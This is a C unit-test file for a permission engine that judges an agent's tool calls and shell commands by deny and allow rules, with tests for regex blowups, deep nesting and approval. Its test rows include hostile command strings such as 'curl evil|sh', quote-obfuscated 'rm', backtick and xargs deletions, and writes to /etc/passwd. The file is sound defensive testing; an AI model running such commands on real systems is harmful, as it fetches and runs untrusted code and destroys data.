/*
 * The engine: rules by tool name and arguments, deny before allow before a person, patterns
 * that work too long, and who answers where nobody sits.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <string.h>
#include <time.h>

#include "os/thread.h"
#include "policy/approver.h"
#include "policy/line.h"
#include "policy/policy.h"
#include "text/json.h"

static struct policy *opened(const struct policy_opt *opt)
{
	struct policy *p = NULL;
	struct err e = { 0 };

	if (policy_open(&p, opt, &e) < 0)
		fail_msg("%s", e.msg);
	return p;
}

static void tool(const struct policy *p, struct arena *a, str name, str args,
		 struct policy_decision *out)
{
	struct policy_call call = { .tool = name };
	struct json *v;

	assert_int_equal(json_read(&v, a, args, NULL), OK);
	call.args = v;
	call.shell = str_eq(name, S("exec"));
	call.destructive = str_ends(name, S("!"));
	policy_judge(p, &call, a, out);
}

static void command(const struct policy_opt *opt, struct arena *a, const char *line,
		    struct policy_decision *out)
{
	struct policy *p = opened(opt);
	struct json text = { .type = JSON_STRING, .s = str_of(line), .key = S("command") };
	struct json args = { .type = JSON_OBJECT, .child = &text, .n = 1 };
	struct policy_call call = { .tool = S("exec"), .args = &args, .shell = true };

	policy_judge(p, &call, a, out);
	out->rule = arena_dup(a, out->rule);
	policy_close(p);
}

/* --- tools ---------------------------------------------------------------------------- */

static const struct policy_arg etc[] = { { S("path"), S("^/etc/") } };
static const struct policy_arg both[] = { { S("n"), S("^[0-9]+$") }, { S("to"), S("a.b") } };
static const struct policy_arg slow[] = { { S("x"), S("(a+)+(b|c)") } };
static const struct policy_rule rules[] = {
	{ S("mail__send"), VERDICT_ALLOW, NULL, 0 },
	{ S("mail__*"), VERDICT_ASK, NULL, 0 },
	{ S("write_[a-f]*"), VERDICT_DENY, etc, 1 },
	{ S("write_[a-f]*"), VERDICT_ASK, NULL, 0 },
	{ S("*__delete_?"), VERDICT_DENY, NULL, 0 },
	{ S("two"), VERDICT_DENY, both, 2 },
	{ S("mail__read"), VERDICT_DENY, NULL, 0 }, /* never reached */
};

static const struct {
	str tool, args;
	enum policy_verdict verdict;
	str rule;
} decisions[] = {
	{ S("mail__send"), S("{}"), VERDICT_ALLOW, S("mail__send") },
	{ S("mail__read"), S("{}"), VERDICT_ASK, S("mail__*") },
	{ S("write_file"), S("{\"path\":\"/etc/passwd\"}"), VERDICT_DENY, S("write_[a-f]*") },
	{ S("write_file"), S("{\"path\":\"x/etc/passwd\"}"), VERDICT_ASK, S("write_[a-f]*") },
	{ S("write_file"), S("{}"), VERDICT_ASK, S("write_[a-f]*") },
	{ S("write_zip"), S("{}"), VERDICT_ALLOW, S("") },
	{ S("db__delete_x"), S("{}"), VERDICT_DENY, S("*__delete_?") },
	{ S("db__delete_xy"), S("{}"), VERDICT_ALLOW, S("") },
	{ S("MAIL__read"), S("{}"), VERDICT_ALLOW, S("") },
	{ S("two"), S("{\"n\":12,\"to\":\"a\\nb\"}"), VERDICT_DENY, S("two") },
	{ S("two"), S("{\"n\":\"x\",\"to\":\"a-b\"}"), VERDICT_ALLOW, S("") },
	{ S("two"), S("{\"n\":12}"), VERDICT_ALLOW, S("") },
	{ S("any!"), S("{}"), VERDICT_ALLOW, S("") },
};

static void the_first_rule_that_matches_decides_and_none_allows(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct policy *p =
		opened(&(struct policy_opt){ .rules = rules, .rules_n = COUNT(rules) });

	for (size_t i = 0; i < COUNT(decisions); i++) {
		struct policy_decision d;
		tool(p, &a, decisions[i].tool, decisions[i].args, &d);
		if (d.verdict != decisions[i].verdict || !str_eq(d.rule, decisions[i].rule))
			fail_msg("row %zu %s: %s by \"%.*s\"", i, decisions[i].tool.p,
				 policy_word(d.verdict), STRF(d.rule));
		assert_true(d.reason.n > 0);
	}
	policy_close(p);
}

static void tools_that_destroy_are_treated_as_configured(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct policy *p = opened(&(struct policy_opt){
		.rules = rules, .rules_n = COUNT(rules), .destructive = VERDICT_ASK });
	struct policy_decision d;

	tool(p, &a, S("any!"), S("{}"), &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
	tool(p, &a, S("any"), S("{}"), &d);
	assert_int_equal(d.verdict, VERDICT_ALLOW);
	policy_close(p);
}

static void a_pattern_that_works_too_long_is_the_stricter_answer(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	const struct policy_rule deny[] = { { S("t"), VERDICT_DENY, slow, 1 } };
	const struct policy_rule allow[] = { { S("t"), VERDICT_ALLOW, slow, 1 },
					     { S("t"), VERDICT_ASK, NULL, 0 } };
	str args = S("{\"x\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"}");
	struct policy_decision d;
	struct policy *p = opened(&(struct policy_opt){ .rules = deny, .rules_n = 1 });

	tool(p, &a, S("t"), args, &d);
	assert_int_equal(d.verdict, VERDICT_DENY);
	policy_close(p);
	p = opened(&(struct policy_opt){ .rules = allow, .rules_n = 2 });
	tool(p, &a, S("t"), args, &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
	policy_close(p);
}

static void a_bad_pattern_is_named(void **state)
{
	const str bad[] = { S("fine"), S("(unterminated") };
	struct policy *p = NULL;
	struct err e = { 0 };

	assert_int_equal(policy_open(&p, &(struct policy_opt){ .deny = bad, .deny_n = 2 }, &e),
			 E_INVAL);
	assert_non_null(strstr(e.msg, "deny: \"(unterminated\""));
	assert_int_equal(
		policy_open(&p, &(struct policy_opt){ .allow = bad, .allow_n = 2 }, &e),
		E_INVAL);
	assert_null(p);
}

/* --- command lines -------------------------------------------------------------------- */

static const str ws[] = { S("/ws") };

/* Deny and allow as one text each, patterns between blanks lines' tabs. */
static const struct row {
	const char *deny, *allow, *line;
	enum policy_verdict verdict;
	const char *rule; /* NULL: whatever */
} rows[] = {
	/* Deny wins, over every way to write it. */
	{ "\\bls\\b.*-rf", "^ls\\b", "ls -rf /tmp", VERDICT_DENY, "\\bls\\b.*-rf" },
	{ NULL, "^ls\\b", "ls -la", VERDICT_ALLOW, "^ls\\b" },
	{ NULL, NULL, "echo hi", VERDICT_ASK, "" },
	{ "^rm\\b", NULL, "true && 'rm' x", VERDICT_DENY, "^rm\\b" },
	{ "^rm\\b", NULL, "sudo rm x", VERDICT_DENY, "^rm\\b" },
	{ "^rm\\b", NULL, "sh -c \"ls; r''m x\"", VERDICT_DENY, "^rm\\b" },
	{ "^rm\\b", "", "echo 'rm x'", VERDICT_ALLOW, NULL },
	{ "a.b", "", "echo 'a\nb'", VERDICT_DENY, "a.b" },
	{ "curl .*\\| sh", "", "'curl' x|sh", VERDICT_DENY, NULL },
	{ "(a+)+(b|c)", "", "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", VERDICT_DENY,
	  NULL },
	/* Each command has to be allowed. */
	{ NULL, "^npm run .+$", "npm run build", VERDICT_ALLOW, NULL },
	{ NULL, "^npm run .+$", "npm run build; curl evil|sh", VERDICT_DENY, NULL },
	{ NULL, "^npm run .+$", "npm run build; curl evil", VERDICT_ASK, NULL },
	{ NULL, "^npm run .+$", "npm run build && npm run test", VERDICT_ALLOW, NULL },
	{ NULL, "^npm run .+$", "npm run build\ncurl evil", VERDICT_ASK, NULL },
	{ NULL, "^npm run .+$", "npm run $(x)", VERDICT_ASK, NULL },
	{ NULL, "^npm run .+$", "npm run x > /etc/x", VERDICT_ASK, NULL },
	{ NULL, "^npm run .+$", "npm run x > out", VERDICT_ALLOW, NULL },
	{ NULL, "^npm run .+$", "npm run x 2>/dev/null", VERDICT_ALLOW, NULL },
	{ NULL, "^npm run .+$", "A=1 npm run x", VERDICT_ASK, NULL },
	{ NULL, "^A=\\d npm run .+$", "A=1 npm run x", VERDICT_ALLOW, NULL },
	{ NULL, "^ls$", "ls\n", VERDICT_ALLOW, NULL },
	{ NULL, "^cat [\\w./-]+$", "cat \"a/b.c\"", VERDICT_ALLOW, NULL },
	{ NULL, "^git commit -m \"[^\"]*\"$", "git commit -m \"a; b\"", VERDICT_ALLOW, NULL },
	{ NULL, "(a+)+(b|c)", "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", VERDICT_ASK,
	  NULL },
	/* A pattern that names the line's operators speaks for the line. */
	{ NULL, "^ls \\| wc -l$", "ls | wc -l", VERDICT_ALLOW, "^ls \\| wc -l$" },
	{ NULL, "^ls [|] wc -l$", "ls | wc -l", VERDICT_ALLOW, NULL },
	{ NULL, "^(ls|wc) .+$", "ls a | wc -l x | evil", VERDICT_ASK, NULL },
	{ NULL, "^make .+ && echo done$", "make x && echo done", VERDICT_ALLOW, NULL },
	{ NULL, "^make .+ && echo done$", "make x && evil && echo done", VERDICT_ASK, NULL },
	{ NULL, "^make .+; ls$", "make x; ls", VERDICT_ALLOW, NULL },
	{ NULL, "^echo \\$\\(date\\)$", "echo $(date)", VERDICT_ALLOW, NULL },
	{ NULL, "^ls > /tmp/[a-z]+$", "ls > /tmp/x", VERDICT_ALLOW, NULL },
	{ NULL, "^ls > .+$", "case x in x) evil;; esac", VERDICT_ASK, NULL },
	{ NULL, "^make .+; ls$", "make x; rm -rf y; ls", VERDICT_DENY, NULL },
	/* What runs others. */
	{ NULL, "^ls\\b", "timeout 5 ls", VERDICT_ALLOW, NULL },
	{ NULL, "^ls\\b", "nice -n 3 nohup ls -l", VERDICT_ALLOW, NULL },
	{ NULL, "^ls\\b", "sh -c 'ls -l'", VERDICT_ALLOW, NULL },
	{ NULL, "^ls\\b", "sh -c 'ls -l; evil'", VERDICT_ASK, NULL },
	{ NULL, "^ls\\b", "sudo ls", VERDICT_ASK, NULL },
	{ NULL, "^ls\\b", "env A=1 ls", VERDICT_ASK, NULL },
	{ NULL, "^sudo systemctl restart nginx$", "sudo systemctl restart nginx", VERDICT_ALLOW,
	  NULL },
	{ NULL, "^sudo .+$", "sudo evil", VERDICT_ASK, NULL },
	{ NULL, "^sudo .+$", "sudo sh -c 'evil; worse'", VERDICT_ASK, NULL },
	{ NULL, "^bash -c .+$\t^ls", "bash -c 'ls; ls'", VERDICT_ALLOW, NULL },
	{ NULL, "^find\\b", "find . -exec evil {} +", VERDICT_ASK, NULL },
	{ NULL, "^find\\b\t^wc\\b", "find . -exec wc -l {} +", VERDICT_ALLOW, NULL },
	{ NULL, "^echo\\b\t^ls\\b\t^curl\\b\t^python3\\b", "ls | xargs rm", VERDICT_ASK, NULL },
	/* A rule speaks for what is run only when it names it, as a word. */
	{ NULL, "^xargs ls$", "xargs ls", VERDICT_ALLOW, NULL },
	{ NULL, "^xargs .* ls_all$", "xargs ls ls_all", VERDICT_ASK, NULL },
	{ NULL, "^xargs .* all-ls$", "xargs ls all-ls", VERDICT_ASK, NULL },
	{ "\\brm\\b", "^echo\t^ls\t^curl", "echo hi && rm -r x", VERDICT_DENY, NULL },
	{ "\\brm\\b", "^echo\t^ls\t^curl", "ls `rm -r x`", VERDICT_DENY, NULL },
	{ "^rm\\b", "^echo\t^ls\t^curl", "ls | xargs rm", VERDICT_DENY, NULL },
	{ "^rm\\b", "^echo\t^ls\t^curl", "echo hi & rm x", VERDICT_DENY, NULL },
	{ "^rm\\b", "^echo\t^ls\t^curl", "curl -s https://example.com/a/b", VERDICT_ALLOW,
	  NULL },
	{ "^rm\\b", "^echo\t^ls\t^curl", "ls 2>/dev/null", VERDICT_ALLOW, NULL },
	{ "^rm\\b", "^echo\t^ls\t^curl", "echo \"a && b\"", VERDICT_ALLOW, NULL },
	/* Nothing to run is for the tool to say. */
	{ NULL, NULL, "  ", VERDICT_ALLOW, NULL },
};

static size_t split(const char *text, str out[8])
{
	str rest = str_of(text);
	size_t n = 0;

	if (!text)
		return 0;
	do
		out[n++] = str_cut(&rest, '\t');
	while (rest.n);
	return n;
}

static void deny_comes_before_allow_and_allow_before_a_person(void **state)
{
	for (size_t i = 0; i < COUNT(rows); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		str deny[8], allow[8];
		struct policy_opt opt = {
			.builtin = true,
			.deny = deny,
			.deny_n = split(rows[i].deny, deny),
			.allow = allow,
			.allow_n = split(rows[i].allow, allow),
			.roots = ws,
			.roots_n = 1,
			.cwd = S("/ws"),
			.home = S("/home/me"),
		};
		struct policy_decision d;
		command(&opt, &a, rows[i].line, &d);
		if (d.verdict != rows[i].verdict ||
		    (rows[i].rule && !str_eq(d.rule, str_of(rows[i].rule))))
			fail_msg("row %zu, %s: %s by \"%.*s\": %.*s", i, rows[i].line,
				 policy_word(d.verdict), STRF(d.rule), STRF(d.reason));
	}
}

static void redirections_are_judged_from_where_the_command_starts(void **state)
{
	static const struct {
		str args;
		enum policy_verdict verdict;
	} from[] = {
		{ S("{\"command\":\"ls >x\"}"), VERDICT_ASK },
		{ S("{\"command\":\"ls >x\",\"cwd\":\" \"}"), VERDICT_ASK },
		{ S("{\"command\":\"ls >x\",\"cwd\":\"ws\"}"), VERDICT_ALLOW },
		{ S("{\"command\":\"ls <x\",\"cwd\":\"ws\"}"), VERDICT_ALLOW },
		{ S("{\"command\":\"ls >x\",\"cwd\":\"/top/ws/sub\"}"), VERDICT_ALLOW },
		{ S("{\"command\":\"ls >../x\",\"cwd\":\"ws/sub\"}"), VERDICT_ALLOW },
		{ S("{\"command\":\"ls >../../x\",\"cwd\":\"ws/sub\"}"), VERDICT_ASK },
		{ S("{\"command\":\"ls >ws/x\",\"cwd\":\"ws\"}"), VERDICT_ALLOW },
		{ S("{\"command\":\"ls >ws/x\",\"cwd\":\"y\"}"), VERDICT_ASK },
		{ S("{\"command\":\"ls >x\",\"cwd\":\"~/x\"}"), VERDICT_ASK },
		{ S("{\"command\":\"ls >x\",\"cwd\":\"~nobody\"}"), VERDICT_ASK },
	};
	const str all[] = { S("") }, root[] = { S("/top/ws") };
	struct policy *p = opened(&(struct policy_opt){ .allow = all,
							.allow_n = 1,
							.roots = root,
							.roots_n = 1,
							.cwd = S("/top"),
							.home = S("/home/me") });

	for (size_t i = 0; i < COUNT(from); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		struct policy_decision d;
		tool(p, &a, S("exec"), from[i].args, &d);
		if (d.verdict != from[i].verdict)
			fail_msg("%s: %s", from[i].args.p, policy_word(d.verdict));
	}
	policy_close(p);
}

static void a_rule_for_the_tool_makes_it_stricter_only(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct policy_rule rule = { S("ex*"), VERDICT_ALLOW, NULL, 0 };
	const str all[] = { S("") };
	struct policy_opt opt = {
		.builtin = true, .rules = &rule, .rules_n = 1, .cwd = S("/ws")
	};
	struct policy_decision d;

	command(&opt, &a, "ls", &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
	opt.allow = all;
	opt.allow_n = 1;
	command(&opt, &a, "ls", &d);
	assert_int_equal(d.verdict, VERDICT_ALLOW);
	rule.verdict = VERDICT_ASK;
	command(&opt, &a, "ls", &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
	command(&opt, &a, "rm -rf x", &d);
	assert_int_equal(d.verdict, VERDICT_DENY);
	rule.verdict = VERDICT_DENY;
	command(&opt, &a, "ls", &d);
	assert_int_equal(d.verdict, VERDICT_DENY);
	assert_true(str_eq(d.rule, S("ex*")));
}

static void a_classifier_gets_only_what_is_clear_and_undecided(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct policy_rule rule = { S("exec"), VERDICT_ASK, NULL, 0 };
	struct policy_opt opt = { .builtin = true, .classify = true, .cwd = S("/ws") };
	struct policy_decision d;

	command(&opt, &a, "make x", &d);
	assert_true(d.verdict == VERDICT_ASK && d.classify);
	command(&opt, &a, "$x y", &d);
	assert_true(d.verdict == VERDICT_ASK && !d.classify);
	command(&opt, &a, "rm -rf y", &d);
	assert_true(d.verdict == VERDICT_DENY && !d.classify);
	opt.rules = &rule;
	opt.rules_n = 1;
	command(&opt, &a, "make x", &d);
	assert_true(d.verdict == VERDICT_ASK && !d.classify);
}

static void each_command_is_told_with_its_reason(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	const str allow[] = { S("^ls") };
	struct policy_opt opt = {
		.builtin = true, .allow = allow, .allow_n = 1, .cwd = S("/ws")
	};
	struct policy_decision d;

	command(&opt, &a, "ls -l && sudo rm -rf x", &d);
	assert_int_equal(d.parts_n, 3);
	assert_true(str_eq(d.parts[1].command, S("sudo rm -rf x")));
	assert_int_equal(d.parts[2].depth, 1);
	assert_true(str_eq(d.parts[2].command, S("rm -rf x")));
	assert_int_equal(d.parts[2].verdict, VERDICT_DENY);
	assert_true(str_eq(d.parts[2].rule, S("builtin:rm")));
	command(&opt, &a, "ls; make", &d);
	assert_int_equal(d.parts[0].verdict, VERDICT_ALLOW);
	assert_int_equal(d.parts[1].verdict, VERDICT_ASK);
	assert_true(str_has(d.reason, S("no rule allows \"make\"")));
}

static void without_the_builtin_rules_only_the_own_ones_deny(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	struct policy_opt opt = { .cwd = S("/ws") };
	struct policy_decision d;

	command(&opt, &a, "rm -rf x", &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
}

static void a_shell_that_is_not_known_allows_nothing(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	const str all[] = { S("") };
	struct policy_opt opt = {
		.allow = all, .allow_n = 1, .foreign = true, .cwd = S("/ws")
	};
	struct policy_decision d;

	command(&opt, &a, "ls", &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
}

/* --- bounds --------------------------------------------------------------------------- */

static str repeated(struct arena *a, const char *piece, size_t bytes)
{
	size_t n = strlen(piece);
	char *p = arena_alloc(a, 1, bytes + 1);

	for (size_t i = 0; i < bytes; i++)
		p[i] = piece[i % n];
	return (str){ p, bytes };
}

static void what_is_too_long_or_too_deep_is_asked_about(void **state)
{
	static const struct {
		const char *piece;
		size_t bytes;
	} long_ones[] = {
		{ "a ", 70000 },        { "(", 5000 },
		{ "$(", 5000 },         { "eval ", 4000 },
		{ "`", 4001 },          { "{a,b}", 4000 },
		{ "sh -c '", 4000 },    { "a;", 40000 },
		{ "<<x ", 4000 },       { "if ", 4000 },
		{ "f() { ", 4000 },     { "${", 4000 },
		{ "{ ", 4000 },         { "sudo ", 4000 },
		{ "x=(", 4000 },        { "[[ ", 4000 },
		{ "((", 4000 },         { "case x in ", 4000 },
		{ "echo a|sh|", 4000 }, { "find . -exec ", 4000 },
		{ "$((", 4000 },        { "$[", 4000 },
		{ "coproc ", 4000 },    { "! ", 4000 },
	};
	const str all[] = { S("") };
	struct policy_opt opt = {
		.builtin = true, .allow = all, .allow_n = 1, .cwd = S("/ws")
	};

	for (size_t i = 0; i < COUNT(long_ones); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		struct policy_decision d;
		command(&opt, &a, repeated(&a, long_ones[i].piece, long_ones[i].bytes).p, &d);
		if (d.verdict == VERDICT_ALLOW)
			fail_msg("%s is allowed", long_ones[i].piece);
	}
}

static void a_text_is_not_read_for_each_of_very_many_shells(void **state)
{
	SCOPED(arena_free) struct arena a = { 0 };
	str line = arena_fmt(&a, "echo %.*s%.*s", STRF(repeated(&a, "x", 30000)),
			     STRF(repeated(&a, " | sh", 1000)));
	struct line l;

	line_read(&l, &a, line);
	assert_int_equal(l.n, 201 + 8);
	assert_non_null(l.doubt);
}

/* Of this thread, the least of some runs. */
static int64_t spent_us(const struct policy_opt *opt, str line)
{
	int64_t least = INT64_MAX;

	for (int i = 0; i < 3; i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		struct policy_decision d;
		struct timespec from, to;
		(void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &from);
		command(opt, &a, line.p, &d);
		(void)clock_gettime(CLOCK_THREAD_CPUTIME_ID, &to);
		int64_t us = (to.tv_sec - from.tv_sec) * 1000000 +
			     (to.tv_nsec - from.tv_nsec) / 1000;
		least = us < least ? us : least;
	}
	return least;
}

/* A line of n bytes: a beginning, pieces, and the same number of ends. */
static str grown(struct arena *a, const char *const row[3], size_t n)
{
	size_t piece = strlen(row[1]), end = strlen(row[2]);
	size_t times = (n - strlen(row[0])) / (piece + end);

	return arena_fmt(a, "%s%.*s%.*s", row[0], STRF(repeated(a, row[1], times * piece)),
			 STRF(repeated(a, end ? row[2] : " ", times * end)));
}

static void the_work_grows_with_the_line_and_not_with_its_square(void **state)
{
	/* With four times as much each of these took sixteen times as long, or might. */
	static const char *const growing[][3] = {
		{ "echo ", "{a,", "" },
		{ "echo ", "{", "" },
		{ "echo ", "{{", "}" },
		{ "echo ", "{1..", "" },
		{ "echo ", "{a,", "}" },
		{ "echo ", "{\"a\",", "" },
		{ "echo", " {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}x", "" },
		{ "cat <<a\n", "b\\\n", "" },
		{ "cat <<a <<b <<c <<d\n", "b\\\n", "" },
		{ "cat <<a\n", "$(cat <<a\n", "" },
		{ "foo ", "rm ", "" },
		{ "foo rm ", "$x", "" },
		{ "", "f() { f; };", "" },
		{ "find", " -exec sh \\;", " <<<''" },
		{ "echo ", "$(a)", "" },
		{ "echo ", "`a`", "" },
		{ "echo ", "$((1))", "" },
		{ "echo ", "$((a);", "" },
		{ "", "((a);", "" },
		{ "", "(a);", "" },
		{ "", "\\\n", "#a" },
		{ "echo", "${IFS%", "" },
		{ "", "if a; then b; fi;", "" },
		{ "echo a", " | sh", "" },
		{ "sh", " <<<a", "" },
		{ "cat", " >a", "" },
		{ "a", " | b", " &" },
		{ "f(", " ", " " },
		{ "a=(", "b ", "" },
		{ "echo ", "1", "" },
		{ "echo ", "'a'", "" },
		{ "echo '", "a", "" },
		{ "echo ", "\"$a\"", "" },
	};
	const str all[] = { S("") };
	struct policy_opt opt = {
		.builtin = true, .allow = all, .allow_n = 1, .cwd = S("/ws")
	};

	for (size_t i = 0; i < COUNT(growing); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		int64_t some = spent_us(&opt, grown(&a, growing[i], 16000));
		int64_t more = spent_us(&opt, grown(&a, growing[i], 64000));
		if (more > 30000 && more > 9 * some)
			fail_msg("%s%s...: %lld us, then %lld", growing[i][0], growing[i][1],
				 (long long)some, (long long)more);
	}
}

struct on_thread {
	str line;
	enum policy_verdict verdict;
};

static void *judge_it(void *arg)
{
	SCOPED(arena_free) struct arena a = { 0 };
	const str all[] = { S("") };
	struct policy_opt opt = { .allow = all, .allow_n = 1, .cwd = S("/ws") };
	struct on_thread *t = arg;
	struct policy_decision d;

	command(&opt, &a, t->line.p, &d);
	t->verdict = d.verdict;
	return NULL;
}

static void what_is_nested_without_end_fits_the_stack_of_a_thread(void **state)
{
	static const char *const pieces[] = {
		"${",          "$[",      "$((",        "coproc ",   "! ",     "time ! ",
		"$(",          "(",       "${x:-$(",    "f() ",      "((",     "`",
		"function f ", "\"${x:-", "<(",         "{ ",        "$[${",   "x=(",
		"if ",         "[[ ",     "case x in ", "$((${x[$[", ">(",     "eval ",
		"sh -c '",     "env ",    "<<x $(",     "for i in ", "while ",
	};

	for (size_t i = 0; i < COUNT(pieces); i++) {
		SCOPED(arena_free) struct arena a = { 0 };
		struct on_thread t = { .line = repeated(&a, pieces[i], 60000) };
		struct thread th = { 0 };
		struct err e = { 0 };

		if (thread_start(&th, "policy", judge_it, &t, &e) < 0)
			fail_msg("%s", e.msg);
		thread_join(&th);
		if (t.verdict == VERDICT_ALLOW)
			fail_msg("%s is allowed", pieces[i]);
	}
}

static void deny_all_never_says_yes_and_names_the_tool(void **state)
{
	struct approval_ask ask = { .tool = S("write_file"), .timeout_ms = 60000 };
	struct err e = { 0 };
	bool yes = false;

	assert_int_equal(approver_deny_all.ask(&approver_deny_all, &ask, &yes, NULL, &e),
			 E_DENIED);
	assert_false(yes);
	assert_non_null(strstr(e.msg, "write_file"));
	assert_string_equal(approver_deny_all.decider, "none");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_first_rule_that_matches_decides_and_none_allows),
		cmocka_unit_test(tools_that_destroy_are_treated_as_configured),
		cmocka_unit_test(a_pattern_that_works_too_long_is_the_stricter_answer),
		cmocka_unit_test(a_bad_pattern_is_named),
		cmocka_unit_test(deny_comes_before_allow_and_allow_before_a_person),
		cmocka_unit_test(redirections_are_judged_from_where_the_command_starts),
		cmocka_unit_test(a_rule_for_the_tool_makes_it_stricter_only),
		cmocka_unit_test(a_classifier_gets_only_what_is_clear_and_undecided),
		cmocka_unit_test(each_command_is_told_with_its_reason),
		cmocka_unit_test(without_the_builtin_rules_only_the_own_ones_deny),
		cmocka_unit_test(a_shell_that_is_not_known_allows_nothing),
		cmocka_unit_test(what_is_too_long_or_too_deep_is_asked_about),
		cmocka_unit_test(a_text_is_not_read_for_each_of_very_many_shells),
		cmocka_unit_test(the_work_grows_with_the_line_and_not_with_its_square),
		cmocka_unit_test(what_is_nested_without_end_fits_the_stack_of_a_thread),
		cmocka_unit_test(deny_all_never_says_yes_and_names_the_tool),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
